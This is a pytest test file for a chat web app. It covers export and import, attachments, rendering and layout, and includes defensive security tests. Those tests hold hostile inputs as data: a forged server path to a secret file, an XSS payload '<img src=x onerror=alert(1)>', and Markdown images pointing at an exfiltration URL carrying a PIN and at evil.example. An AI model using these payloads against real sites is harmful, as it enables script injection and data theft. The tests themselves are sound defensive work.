    from minisgl_app.page.scripts import PAGE_CONFIG, PAGE_JS, PAGE_SCRIPT

    def matches(query: str, width: float) -> bool:
        query = query.strip()
        if query.startswith("not all and "):
            return not matches(query[len("not all and ") :], width)
        found = re.fullmatch(r"\((min|max)-width:\s*([\d.]+)px\)", query)
        assert found, query
        return width >= float(found[2]) if found[1] == "min" else width <= float(found[2])

    [wide, narrow] = re.findall(r"@media ([^{]+)\{", PAGE_CSS)
    assert "#chats-toggle { display: none" in PAGE_CSS.split(wide, 1)[1].split("@media", 1)[0], (
        "the first query is not the wide one"
    )
    for width in (320, 640, 640.25, 640.5, 640.99, 641, 1280):
        assert matches(wide, width) != matches(narrow, width), width
    assert narrow.strip() == NARROW_QUERY and PAGE_CONFIG["narrowQuery"] == NARROW_QUERY
    assert "matchMedia(config.narrowQuery)" in PAGE_SCRIPT and PAGE_JS.startswith(PAGE_SCRIPT)
    assert json.dumps(NARROW_QUERY) in PAGE_JS.removeprefix(PAGE_SCRIPT), (
        "the page script is not started with the query"
    )


@pytest.mark.anyio
async def test_a_stored_chat_whose_messages_were_all_deleted_has_nothing_to_export(
    store, monkeypatch
) -> None:
    """Export of a stored chat (Manage offers it) whose messages were all deleted: a toast says
    there is nothing to export, and no file is written."""
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    conv_id = store.create(title="emptied").id
    first = store.append(conv_id, "user", "hello")
    store.append(conv_id, "assistant", "hi")
    store.delete_message(conv_id, first.id)
    await page.select(conv_id, None, request)
    assert manage_shown(page.render(page.tab(request))) == (True, False), (
        "Manage offers no export for the stored chat"
    )
    for kind in ("md", "json"):
        assert page.export(kind, request) == SKIP
    assert said == ["Nothing to export yet: this chat has no messages."] * 2, said


@pytest.mark.anyio
async def test_an_imported_chat_is_shown_as_a_click_on_it_shows_it(store, tmp_path) -> None:
    """Import showed the chat by hand and skipped part of what showing a chat does: the versions
    bar's note about the chat left stayed, and the chat shown before it was not remembered (a
    settings box left by the import belongs there). It shows the chat as a click does."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    a, b = store.create(title="a").id, store.create(title="b").id
    question = store.append(b, "user", "hello")
    store.append(a, "user", "a question to import")
    file = tmp_path / "chat.json"
    file.write_text(store.export_json(a), encoding="utf-8")
    await page.select(a, 1000.0, request)
    await page.select(b, 2000.0, request)
    tab = page.tab(request)
    tab.bar_note = (
        question.id,
        "the messages after it are in version 1",
    )  # what an edit in B leaves
    box, *_ = await page.import_chat(uploaded(page, file), None, request, "B's draft")
    assert tab.conv_id not in (a, b) and draft_in(box) == "" and tab.draft.unsent[b] == "B's draft"
    assert (tab.events.shown_before, tab.events.shown_since, tab.bar_note, tab.focus) == (
        b,
        0.0,
        None,
        None,
    )


@pytest.mark.anyio
async def test_an_exported_chats_file_name_keeps_the_readable_words_of_its_title(
    store, tmp_path, monkeypatch
) -> None:
    """Export named the file after the title with each character but letters, digits, "-", "_"
    and space made a "_": a title with markup or emoji gave a name of underscores ("**Plan** 🚀"
    gave "__Plan__ _.md"). The name keeps the title's readable words, in any script; "chat" when
    none is left; a long title is cut at a word. HTML tags around words are left out with their
    names ("<b>Plan</b>" gave "b Plan b", a new user's tour); a tag alone stays a word."""
    from pathlib import Path

    from minisgl_app.chat.export_name import EXPORT_NAME_LENGTH, export_stem
    from minisgl_app.page.ui import ChatPage

    monkeypatch.setenv(
        "GRADIO_TEMP_DIR", str(tmp_path)
    )  # where the app writes its exports (app/cli.py)
    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    for title, name in (
        ("**Plan** 🚀", "Plan"),
        ("🚀🔥 !!", "chat"),
        ("什么是 KV Cache？", "什么是 KV Cache"),
        ("# Notes on `gpt-4` / v1.2 (draft)", "Notes on gpt-4 v1.2 draft"),
        ("_*~~__", "chat"),
        # tags around words are markup (they gave "b Plan b for i Rome i"); a tag alone is a word
        ("<b>Plan</b> for <i>Rome</i>", "Plan for Rome"),
        ("<b><i>Trip</i> plan</b>", "Trip plan"),
        ("What does the <div> tag do?", "What does the div tag do"),
    ):
        conv_id = store.create(title=title).id
        store.append(conv_id, "user", "hello")
        await page.select(conv_id, None, request)
        assert Path(await page.export_md(request)).name == f"{name}.md", title
        assert Path(await page.export_json(request)).name == f"{name}.json", title
    long = export_stem("word " * 40)
    assert (
        long.startswith("word word") and len(long) <= EXPORT_NAME_LENGTH and not long.endswith(" ")
    ), long


@pytest.mark.anyio
async def test_attach_and_import_read_only_files_uploaded_from_the_page(
    store, tmp_path, monkeypatch
) -> None:
    """Issue 41, item 1: the page is mounted (gr.mount_gradio_app), so Gradio does not check that
    an event's file was uploaded: a forged FileData naming any server path reached Attach, and
    the file went into the message (Import alike). Only a file that Gradio's upload route stored
    is read; any other path is refused with a message, nothing is attached or imported, and a
    copy Gradio made of it in the upload folder is deleted. A file read is deleted too (its text
    is kept in the tab)."""
    from minisgl_app.chat.uploads import NOT_UPLOADED
    from minisgl_app.page import toasts
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    said: list[str] = []
    monkeypatch.setattr(toasts, "warn", said.append)
    secret = tmp_path / "secret.txt"
    secret.write_text("the PIN is 4321\n", encoding="utf-8")
    notes = tmp_path / "notes.txt"
    notes.write_text("the code is plum\n", encoding="utf-8")
    line, *_ = await page.attach([str(secret)], request)  # a forged FileData: the path as sent
    assert page.tab(request).draft.attachments == [] and "secret" not in line, page.tab(
        request
    ).draft.attachments
    good = uploaded(page, notes)
    copied = (
        page.uploads.folder / "0123abcd" / "secret.txt"
    )  # where Gradio copies a forged path before the handler
    copied.parent.mkdir()
    copied.write_text(secret.read_text())
    line, *_ = await page.attach([str(copied), good], request)
    assert page.tab(request).draft.attachments == [("notes.txt", "the code is plum\n")], page.tab(
        request
    ).draft.attachments
    assert "secret" not in line and said == [f"Not attached: {NOT_UPLOADED}."] * 2, said
    assert secret.exists(), "a file outside the upload folder is left alone"
    assert not copied.exists() and not Path(good).exists(), (
        "the forged copy and the file read are deleted"
    )
    conv = store.create(title="to export")
    store.append(conv.id, "user", "the PIN is 4321")
    chat = tmp_path / "chat.json"
    chat.write_text(store.export_json(conv.id), encoding="utf-8")
    before = len(store.list())
    said.clear()
    *_, note = await page.import_chat(str(chat), None, request, "")
    assert (
        len(store.list()) == before and note == "" and said == [f"Not imported: {NOT_UPLOADED}."]
    ), said
    *_, note = await page.import_chat(uploaded(page, chat), None, request, "")
    assert len(store.list()) == before + 1 and note.startswith("Imported")
    assert list(page.uploads.folder.rglob("*.json")) == [], "the imported file is deleted once read"


def test_an_imported_replys_model_and_stop_reason_show_as_typed_in_the_line_under_it(store) -> None:
    """Issue 41, item 7: an imported chat's ``model`` and ``stats.stopped_by`` went into the line
    under a reply (and its details) unescaped, while its messages' text is shown as typed:
    "<img src=x onerror=alert(1)>**bold**" was rendered as HTML and Markdown there. Every field the
    import brings shows as typed: each character that would start Markdown or HTML is escaped."""
    forged = "<img src=x onerror=alert(1)>**bold**"
    conv = store.import_conversation(
        json.dumps(
            {
                "format": "minisgl-chat conversation",
                "title": "t",
                "messages": [
                    {"role": "user", "content": "hi"},
                    {
                        "role": "assistant",
                        "content": "hello",
                        "model": forged,
                        "stats": {"tokens": 2, "stopped": True, "stopped_by": forged},
                    },
                ],
            }
        )
    )
    [line] = [v.shown for v in view_messages(store.get(conv.id)) if v.is_line]
    escaped = view.markdown_literal(forged)
    assert line["metadata"]["title"] == f"2 tokens · stopped ({escaped}) · {escaped}", line
    assert line["content"] == f"Stopped before the end ({escaped}).", line
    for text in (line["metadata"]["title"], line["content"]):
        assert not re.search(r"(?<!\\)<|(?<!\\)\*", text), text  # no "<" or "*" left unescaped


def test_a_messages_images_show_as_links_and_copy_or_edit_gives_them_back_as_typed() -> None:
    """Issue 41, item 6: a Markdown image in a message was loaded from its host as soon as the
    chat opened. Outside code, each image shows as a link to it, naming its host ("🖼 x · image
    from host — click to open"), and no "![" is left to start an image (a reference image, "!"
    right before a link); in code it stays as typed. typed_text (✎, Copy) gives the text back."""
    cases = {
        "see ![x](http://127.0.0.1:9/exfil.png?secret=PIN4321) now": "[🖼 \u2062x\u2062 · image from 127.0.0.1 — click to open](http://127.0.0.1:9/exfil.png?secret=PIN4321)",
        '![](//evil.example/a.png "t")': '[🖼 \u2062\u2062image from evil.example — click to open](//evil.example/a.png "t")',
        "![x](rel.png)": "[🖼 \u2062x\u2062 · image — click to open](rel.png)",
        "![a][r]\n\n[r]: http://e.example/x.png": None,
        "!![y](http://h.example/z)": None,
        "\\\\![a][r]": None,
        "![a <b> c](http://x.example/y)": None,
    }
    for text, link in cases.items():
        shown = view.shown_literally(text)
        assert "![" not in shown, (text, shown)
        if link is not None:
            assert link in shown, (text, shown)
        assert view.typed_text(shown) == text, (text, shown)
    for code in ("`![x](http://e.example/y.png)`", "```\n![x](http://e.example/y.png)\n```"):
        assert view.shown_literally(code) == code


def test_inline_math_follows_pandocs_dollar_rule_and_prices_stay_prose() -> None:
    """Issue 45, item 15: with a bare "$" as KaTeX's delimiter, "It costs $5 and $10." showed the
    text between the prices as math. Inline math is found by Pandoc's rule (a non-space after the
    opening "$", a non-space before the closing one and no digit after it, "\\$" a dollar, no
    blank line inside) and put between MATH_MARKs, the page's delimiters; typed_text gives the
    text back."""
    m = view.MATH_MARK
    cases = {
        "It costs $5 and $10.": "It costs $5 and $10.",
        "$5-$10, US$5 or US$10": "$5-$10, US$5 or US$10",
        "Square it: $x^2$.": f"Square it: {m}$x^2${m}.",
        "costs $5 and $x^2$": f"costs $5 and {m}$x^2${m}",
        "\\$3 and \\$4": "\\$3 and \\$4",
        "$a \\$ b$ and $a<b$": f"{m}$a \\$ b${m} and {m}$a<b${m}",
        "$ x $ and $a\n\nb$": "$ x $ and $a\n\nb$",
        "$$\\frac12$$ and `$x$`": "$$\\frac12$$ and `$x$`",
    }
    for text, shown in cases.items():
        assert view.shown_literally(text) == shown, (text, view.shown_literally(text))
        assert view.typed_text(shown) == text


def test_a_long_chat_shows_its_last_messages_under_a_line_that_shows_earlier_ones(store) -> None:
    """Issue 41, item 9: a 100,000-message chat crashed the browser's tab as it opened. The view
    shows the last view.WINDOW messages of the path, under a line saying how many earlier ones a
    click shows; the indexes of what is shown map to their messages."""
    conv = store.create(title="long")
    for i in range(450):
        store.append(conv.id, "user" if i % 2 == 0 else "assistant", f"message {i}")
    full = store.get(conv.id)
    shown = view_messages(full, window=view.WINDOW)
    assert shown[0].earlier == 250 and shown[0].source is None
    assert (
        "Show 200 earlier messages" in shown[0].shown["content"]
        and "250" in shown[0].shown["content"]
    )
    own = [v for v in shown[1:] if not v.is_line]
    assert [v.source.content for v in own] == [f"message {i}" for i in range(250, 450)]
    shown = view_messages(full, window=2 * view.WINDOW)
    assert shown[0].earlier == 50 and "Show 50 earlier messages" in shown[0].shown["content"]
    assert not any(v.earlier for v in view_messages(full, window=450)) and view_messages(
        full
    ) == view_messages(full, window=None)
    assert view.windowed(full, 500) == (full, 0)


@pytest.mark.anyio
async def test_a_click_on_the_earlier_messages_line_shows_more_and_another_chat_starts_at_the_last_ones(
    store,
) -> None:
    """Issue 41, item 9: the line above a long chat shows view.WINDOW more messages at each click
    (the chatbot's select event, as a click on a message); showing a chat starts at its last ones."""
    from types import SimpleNamespace

    from minisgl_app.page.ui import ChatPage

    page = ChatPage(FakeClient(FakeEngine()), store)
    request = FakeRequest()
    conv = store.create(title="long")
    for i in range(250):
        store.append(conv.id, "user" if i % 2 == 0 else "assistant", f"message {i}")
    other = store.create(title="other").id
    await page.select(conv.id, 1000.0, request)
    tab = page.tab(request)
    chat = page.render(tab).chat
    assert (
        len([m for m in chat if "metadata" not in m]) == view.WINDOW + 1
        and "Show 50 earlier" in chat[0]["content"]
    )
    await page.focus(SimpleNamespace(index=0), request)
    chat = page.render(tab).chat
    assert chat[0]["content"] == "message 0" and tab.focus is None
    await page.focus(
        SimpleNamespace(index=3), request
    )  # a click on a message: the versions bar acts on it
    assert tab.focus == store.get(conv.id).messages[3].id
    await page.select(other, 2000.0, request)
    await page.select(conv.id, 3000.0, request)
    assert "Show 50 earlier" in page.render(tab).chat[0]["content"]


@pytest.mark.anyio
async def test_files_attached_come_back_to_a_reload_of_their_browser_tab_only(store) -> None:
    """The files attached waited in the tab's state, which a reload (a new tab to the app) ended.
    A closed tab leaves them, by chat, under its browser tab's key (TabState.tab_closed); the
    load of a page of that browser tab takes them back (claim_files), and no other page does."""
    from minisgl_app.page.ui import ChatPage

    class Reloaded:
        session_hash = "tab-2"

    class Other:
        session_hash = "tab-3"

    page = ChatPage(FakeClient(FakeEngine()), store)
    chat = store.create(title="attached").id
    tab = page.tab(FakeRequest())
    await page.load_page(FakeRequest(), float(chat), None, "browser-tab-a")
    tab.draft.attachments = [("notes.txt", "Notes")]
    tab.draft.unsent_files[None] = [("new.txt", "New")]
    page.tab_closed(FakeRequest.session_hash)
    await page.load_page(Other(), float(chat), None, "browser-tab-b")
    assert page.tab(Other()).draft.attachments == []
    await page.load_page(Reloaded(), float(chat), None, "browser-tab-a")
    again = page.tab(Reloaded())
    assert again.draft.attachments == [("notes.txt", "Notes")]
    assert again.draft.unsent_files == {None: [("new.txt", "New")]}
    assert page.left_files == {}


@pytest.mark.anyio
async def test_a_reply_edited_by_the_user_says_so_in_the_line_under_it(store):
    """An edited reply's line read "version 2/2" and its details only "Ended.": nothing said the
    user wrote it (it has no figures, the model did not write it). It says "edited by you", and
    why it has no figures; the model's version keeps its own line."""
    import gradio as gr

    page, request, tab = await a_chat_answered(store, "Name a colour.")
    shown = page.view_of(page.shown(tab), tab)
    reply = next(
        i
        for i, v in enumerate(shown)
        if v.source is not None and v.source.role == "assistant" and not v.is_line
    )
    old = shown[reply].source.content
    await page.edit(
        gr.EditData(None, {"index": reply, "value": "Green.", "previous_value": old}), request
    )
    await until_idle(page.replies)
    lines = [v for v in page.view_of(page.shown(tab), tab) if v.is_line]
    assert lines[-1].shown["metadata"]["title"] == "version 2/2 · edited by you", lines[-1].shown
    assert "You wrote this version" in lines[-1].shown["content"]
    conv = store.get(tab.conv_id)
    model_version = conv.messages[-1]
    assert model_version.content == "Green." and model_version.model is None


class CountingClient(FakeClient):
    """A FakeClient that counts prompts: a token per word, two more per message."""

    context_len = 8192

    def count_prompt_tokens(self, messages, kwargs=None, wait: bool = True) -> int:
        return sum(len(m["content"].split()) + 2 for m in messages)


@pytest.mark.anyio
async def test_the_meter_follows_the_chat_while_it_replies_and_counts_files_attached(
    store, tmp_path
) -> None:
    """The meter under the box kept the count drawn before Send while a reply was written (30
    tokens while a 7,000-token message was read), showed another chat's count after a switch
    back to a chat replying, and counted a file attached only once something was typed. It
    counts the question sent as soon as the chat shows it, each chat its own, and the files
    attached when they are (and removed)."""
    from minisgl_app.page.ui import ChatPage

    page = ChatPage(CountingClient(FakeEngine(step_s=0.05)), store)
    request = FakeRequest()
    other = store.create(title="other")
    store.append(other.id, "user", "one two three")
    store.append(other.id, "assistant", "four five")
    await page.select(other.id, None, request)
    await page.typed("", request)
    tab = page.tab(request)
    other_count = page.meter_of(tab, page.shown(tab))
    assert other_count.startswith("11 / 8,192 tokens"), other_count  # 5 + 4 + the empty box's 2
    question = " ".join(["word"] * 40)
    await page.new_chat(None, request)
    await page.send(question, SETTINGS, None, request)
    await asyncio.sleep(0.2)  # the reply is being written
    assert page.replies.is_busy(tab.conv_id), tab.conv_id
    while_replying = page.meter_of(tab, page.shown(tab))
    assert int(while_replying.split(" /")[0]) >= 42 + 2, while_replying  # the question counts
    await page.select(other.id, None, request)
    assert page.meter_of(tab, page.shown(tab)) == other_count
    replying_chat = [c.id for c in store.list() if c.id != other.id][0]
    await page.select(replying_chat, None, request)
    assert page.meter_of(tab, page.shown(tab)) == while_replying, "the other chat's count"
    await until_idle(page.replies)
    notes = tmp_path / "notes.txt"
    notes.write_text("alpha beta gamma delta\n", encoding="utf-8")
    before = int(page.meter_of(tab, page.shown(tab)).split(" /")[0])
    *_, meter = await page.attach([uploaded(page, notes)], request)
    assert int(meter.split(" /")[0]) > before, (meter, before)
    *_, meter = await page.unattach(request)
    assert int(meter.split(" /")[0]) == before, (meter, before)
